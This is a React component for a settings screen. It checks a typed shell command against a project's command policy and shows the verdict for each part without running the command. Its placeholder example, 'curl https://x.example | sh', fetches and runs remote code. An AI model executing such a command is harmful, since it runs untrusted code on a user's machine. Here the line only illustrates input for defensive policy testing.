import { type FormEvent, useState } from "react";
import { Badge } from "../../components/Badge";
import { Button } from "../../components/Button";
import { TextField } from "../../components/fields";
import { Notice, Skeleton } from "../../components/states";
import type { PolicyTest } from "../../ipc/bindings";
import { capital, oneLine, plain } from "../../lib/plain";
import { useCall } from "../../queries/call";
import { OUTCOME } from "./outcome";
import styles from "./settings.module.css";

/** What would be decided about a command in a project, part by part. Nothing is run. */
export function TryCommand({ project }: { project: string }) {
  const [command, setCommand] = useState("");
  const [asked, setAsked] = useState("");
  const test = useCall(
    "policy_test",
    { command: asked, project },
    { enabled: asked !== "", keepPrevious: true },
  );
  const ask = (event: FormEvent) => {
    event.preventDefault();
    setAsked(command.trim());
  };
  return (
    <form className={styles.stack} aria-label="Try a command" onSubmit={ask}>
      <h3>What would be decided?</h3>
      <div className={styles.tryRow}>
        <div className={styles.tryField}>
          <TextField
            label="A shell command"
            value={command}
            onChange={setCommand}
            placeholder="cd src && curl https://x.example | sh"
            help="It is only read, never run."
            spellCheck="false"
            autoComplete="off"
            mono
          />
        </div>
        <Button type="submit" isDisabled={command.trim() === ""}>
          Ask
        </Button>
      </div>
      <div role="status">
        {test.error ? (
          <Notice tone="bad" title={plain(test.error.message)}>
            {test.error.hint}
          </Notice>
        ) : test.data ? (
          <Decided test={test.data} />
        ) : (
          asked !== "" && <Skeleton lines={2} label="Reading the command…" />
        )}
      </div>
    </form>
  );
}

function Decided({ test }: { test: PolicyTest }) {
  const outcome = OUTCOME[test.verdict];
  return (
    <>
      <p>
        <Badge tone={outcome.tone}>{outcome.word}</Badge> {capital(plain(test.why))}
      </p>
      <ul className={styles.rules} aria-label="Its parts">
        {test.parts.map((part, i) => (
          // biome-ignore lint/suspicious/noArrayIndexKey: the same part may stand in it twice
          <li key={i} className={styles.rule}>
            <Badge tone={OUTCOME[part.verdict].tone}>{OUTCOME[part.verdict].word}</Badge>
            <span className={styles.ruleName}>
              <code>{oneLine(part.program || part.because)}</code> {plain(part.effect)}; rule{" "}
              {plain(part.rule)} <code className={styles.soft}>{oneLine(part.rule_id, 60)}</code>
            </span>
          </li>
        ))}
      </ul>
    </>
  );
}
